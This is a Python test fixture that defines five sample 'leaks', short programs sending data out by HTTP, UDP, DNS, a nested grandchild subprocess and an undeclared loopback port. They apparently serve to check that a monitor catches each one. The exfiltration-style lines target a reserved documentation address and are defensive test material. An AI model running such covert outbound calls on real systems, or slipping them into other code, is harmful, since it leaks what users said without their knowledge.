"""Five leaks, each a program that does what Dolly must not: the proof is worth something if it finds them all."""

import sys
from collections.abc import Callable
from dataclasses import dataclass

from tests.sovereignty.judge import Judged

ELSEWHERE = "192.0.2.7"
"""An address for documentation (RFC 5737): nobody's."""

HTTP = f"import urllib.request; urllib.request.urlopen('http://{ELSEWHERE}/what-was-said', timeout=1)"
UDP = (
    "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
    f"s.sendto(b'what was said', ('{ELSEWHERE}', 514))"
)
DNS = "import socket; socket.getaddrinfo('what-was-said.example', 443)"
CHILD = f"import socket; socket.create_connection(({ELSEWHERE!r}, 443), 1)"
PARENT = f"import subprocess, sys; subprocess.run([sys.executable, '-c', {CHILD!r}])"
GRANDCHILD = f"import subprocess, sys; subprocess.run([sys.executable, '-c', {PARENT!r}])"
LOOPBACK = "import socket; socket.create_connection(('127.0.0.1', 9), 1)"


@dataclass(frozen=True, slots=True)
class Leak:
    """One of them, and how it shows where it is caught."""

    name: str
    program: str
    caught: Callable[[Judged], bool]

    @property
    def command(self) -> list[str]:
        return [sys.executable, "-c", self.program]


def _foreign(name: str, call: str) -> Callable[[Judged], bool]:
    return lambda judged: any(one.peer.name == name and one.call == call for one in judged.foreign)


LEAKS = (
    Leak("a web request", HTTP, _foreign(f"{ELSEWHERE}:80", "connect")),
    Leak("a UDP datagram, without a connection", UDP, _foreign(f"{ELSEWHERE}:514", "sendto")),
    Leak("a question for a name", DNS, lambda judged: bool(judged.dns)),
    Leak("a connection of a grandchild", GRANDCHILD, _foreign(f"{ELSEWHERE}:443", "connect")),
    Leak("a connection to a loopback port that was not declared", LOOPBACK, _foreign("127.0.0.1:9", "connect")),
)
